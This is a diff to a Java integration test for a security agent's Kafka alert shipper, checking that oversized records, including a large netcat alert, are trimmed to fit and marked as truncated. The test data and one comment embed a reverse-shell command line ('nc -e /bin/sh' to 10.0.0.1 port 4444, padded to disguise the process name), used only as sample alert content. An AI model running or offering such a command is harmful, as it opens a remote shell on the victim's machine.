@@ -7,6 +7,7 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import dev.dockward.agent.cli.DockwardCli;
 import dev.dockward.agent.config.AgentConfig;
 import dev.dockward.agent.journal.ChronicleJournal;
+import dev.dockward.agent.journal.RecordBounds;
 import dev.dockward.agent.journal.JournalCursor;
 import dev.dockward.agent.journal.JournalRecord;
 import dev.dockward.agent.ship.FileCheckpoint;
@@ -280,17 +281,55 @@ class KafkaShippingIT {
     broker.createTopics(topic);
     ChronicleJournal journal = closing(ChronicleJournal.openForWriting(dir.resolve("journal"), "hourly"));
     journal.append(record(1));
-    // 2 MiB of summary: over the producer's default max.request.size (1 MiB).
+    // 2 MiB of summary: over the producer's max.request.size, here 1,500 bytes, even cut to the
+    // shipper's smallest try (its 2 KiB floor).
     journal.append(record(2).replace("\"summary\":\"", "\"summary\":\"" + "x".repeat(2 << 20)));
     long last = journal.append(record(3));
-    Shipper shipper = closing(kafkaShipper(journal, kafka(topic, Map.of()),
+    Shipper shipper = closing(kafkaShipper(journal, kafka(topic, Map.of("max.request.size", "1500")),
         ShipperSettings.of(false, ShipperSettings.Start.JOURNAL_START)));
     Await.until(() -> shipper.committed().equals(OptionalLong.of(last)), DEADLINE,
         () -> "committed past the oversized record: " + shipper.committed());
     assertEquals(1, shipper.rejected());
+    assertTrue(shipper.trimmed() > 0, "cut smaller before it was rejected");
     TopicReader reader = closing(new TopicReader(broker, topic));
     reader.awaitAll(List.of("it-1", "it-3"), DEADLINE);
     assertEquals(0, reader.count("it-2"));
+  }
+
+  @Test
+  void theIssuesNetcatAlertArrivesCutToFitTheProducersDefaultMaxSize() throws Exception {
+    String topic = "it.hostile.alerts";
+    broker.createTopics(topic);
+    // The alert an older agent journalled for exec -a "$(head -c 65000 /dev/zero | tr '\0' '\1')" nc -e /bin/sh:
+    // its command line in the process, the evidence and the summary, 6 bytes per character.
+    String cmdline = "\\u0001".repeat(65_000) + " -e /bin/sh 10.0.0.1 4444";
+    String hostile = record(2)
+        .replace("\"summary\":\"", "\"summary\":\"nc runs a program on a network connection: " + cmdline)
+        .replace("}}", "},\"process\":{\"pid\":4242,\"name\":\"nc\",\"cmdline\":\"" + cmdline
+            + "\"},\"evidence\":{\"cmdline\":\"" + cmdline + "\"},\"event_id\":\"it-1\"}");
+    ChronicleJournal journal = closing(ChronicleJournal.openForWriting(dir.resolve("journal"), "hourly"));
+    journal.append(record(1));
+    journal.append(hostile);
+    long last = journal.append(record(3));
+    Shipper shipper = closing(kafkaShipper(journal, kafka(topic, Map.of()),
+        ShipperSettings.of(false, ShipperSettings.Start.JOURNAL_START)));
+    Await.until(() -> shipper.committed().equals(OptionalLong.of(last)), DEADLINE,
+        () -> "committed past the hostile record: " + shipper.committed());
+    assertEquals(0, shipper.rejected());
+    assertEquals(1, shipper.trimmed());
+    TopicReader reader = closing(new TopicReader(broker, topic));
+    reader.awaitAll(List.of("it-1", "it-2", "it-3"), DEADLINE);
+    String arrived = reader.value("it-2");
+    int before = hostile.getBytes(StandardCharsets.UTF_8).length;
+    int after = arrived.getBytes(StandardCharsets.UTF_8).length;
+    System.out.printf("KafkaShippingIT: the hostile alert, %d bytes journalled, arrived as %d bytes%n", before, after);
+    assertTrue(before > 1 << 20 && after <= RecordBounds.MAX_RECORD_BYTES / 2, before + " -> " + after);
+    var marks = JSON.readTree(arrived).path("truncated");
+    Map<String, Integer> lengths = new LinkedHashMap<>();
+    marks.forEach(m -> lengths.put(m.path("path").asText(), m.path("length").asInt()));
+    assertEquals(65_025, lengths.get("/process/cmdline"), lengths.toString());
+    assertEquals(65_025, lengths.get("/evidence/cmdline"), lengths.toString());
+    assertEquals(JSON.readTree(hostile).path("summary").asText().length(), lengths.get("/summary"), lengths.toString());
   }
 
   @Test
